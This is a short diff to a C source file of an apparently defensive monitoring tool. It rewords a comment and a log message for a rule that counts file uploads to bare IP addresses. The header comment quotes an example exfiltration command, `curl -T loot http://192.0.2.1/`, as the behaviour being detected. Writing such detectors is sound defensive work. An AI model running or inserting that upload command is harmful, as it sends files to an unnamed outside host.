@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0
-// A program of the host that was told to send a file to an address without a name: `curl -T loot http://192.0.2.1/`. Work sends files to
+// A program of the host that is executed to send a file to an address without a name: `curl -T loot http://192.0.2.1/`. Work sends files to
 // names, and to loopback. It counts whether the network lets it pass or not. What a job sends by a program of its own is not
 // seen here; destinations.c and the counter of sent bytes are for that.
 #include <arpa/inet.h>
@@ -111,6 +111,7 @@ box_transfer(struct box *b, const struct event *head, const struct watch_exec *x
     if (!file || to == NULL)
         return;
     (void)log_escape(to, shown, sizeof shown);
-    (void)snprintf(text, sizeof text, "%s was told to send a file to \"%s\"", s->name, shown);
+    (void)snprintf(text, sizeof text, "%s sends a file to \"%s\", an address without a name",
+                   s->name, shown);
     box_count(b, RULE_UPLOAD_TO_ADDRESS, head->time_ns, box_hash(to, strlen(to), 17), 1, text);
 }
